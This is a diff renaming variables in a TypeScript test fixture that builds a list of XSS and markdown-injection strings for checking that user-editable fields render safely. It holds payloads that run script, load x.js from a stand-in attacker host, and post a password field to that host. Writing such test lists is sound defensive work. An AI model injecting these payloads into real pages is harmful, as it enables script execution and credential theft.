@@ -1,18 +1,18 @@
 /** Attack texts for each field that users can edit. The page must show each as text, and never run or fetch it. */
-const evil = 'https://evil.example';
+const attackerUrl = 'https://evil.example';
 
 const markup = [
   '<img src=x onerror=isRun=1>',
   '<script>isRun=1</script>',
   '<svg/onload=isRun=1>',
-  `"><script src=${evil}/x.js></script>`,
-  `<iframe src="${evil}"></iframe>`,
+  `"><script src=${attackerUrl}/x.js></script>`,
+  `<iframe src="${attackerUrl}"></iframe>`,
   '<style>*{display:none}</style>',
-  `<link rel=stylesheet href=${evil}/x.css>`,
-  `<base href="${evil}/">`,
-  `<meta http-equiv=refresh content="0;url=${evil}">`,
+  `<link rel=stylesheet href=${attackerUrl}/x.css>`,
+  `<base href="${attackerUrl}/">`,
+  `<meta http-equiv=refresh content="0;url=${attackerUrl}">`,
   '<a href="javascript:isRun=1">here</a>',
-  `<form action=${evil}><input name=password autofocus onfocus=isRun=1>`,
+  `<form action=${attackerUrl}><input name=password autofocus onfocus=isRun=1>`,
   '</title></script></style></textarea></body>',
   '<!-- --><![CDATA[ ]]>',
   '<math><mtext><table><mglyph><style><img src=x onerror=isRun=1>',
@@ -27,8 +27,8 @@ const markdown = [
   '[here](java\tscript:isRun=1)',
   '[here](data:text/html,<script>isRun=1</script>)',
   '[here](vbscript:isRun=1)',
-  `![picture](${evil}/x.png)`,
-  `[![picture](${evil}/x.png)](${evil})`,
+  `![picture](${attackerUrl}/x.png)`,
+  `[![picture](${attackerUrl}/x.png)](${attackerUrl})`,
   '**<b onclick=isRun=1>bold</b>**',
   '`<script>isRun=1</script>`',
   '> # - 1. ```',
@@ -79,7 +79,7 @@ const letters = [
 const long = [
   'w'.repeat(255),
   '-'.repeat(255),
-  `${evil}/${'x'.repeat(200)}`,
+  `${attackerUrl}/${'x'.repeat(200)}`,
   '<b>'.repeat(80),
   '漢'.repeat(255),
   'a_b.'.repeat(60),
@@ -88,9 +88,9 @@ const long = [
 const single = [...markup, ...markdown, ...templates, ...styles, ...addresses, ...letters, ...long];
 
 const cut = (text: string): string =>
-  Array.from(text).reduce((kept, letter) => (kept.length + letter.length > 255 ? kept : kept + letter), '');
+  Array.from(text).reduce((truncated, letter) => (truncated.length + letter.length > 255 ? truncated : truncated + letter), '');
 
 /** A hundred of them, each of 255 characters at most: alone, and inside of others. */
 export const hostileTexts: readonly string[] = [
-  ...new Set([...single, ...single.map((text, nth) => `${single[(nth * 7 + 3) % single.length]} ${text}`)].map(cut)),
+  ...new Set([...single, ...single.map((text, index) => `${single[(index * 7 + 3) % single.length]} ${text}`)].map(cut)),
 ].slice(0, 100);
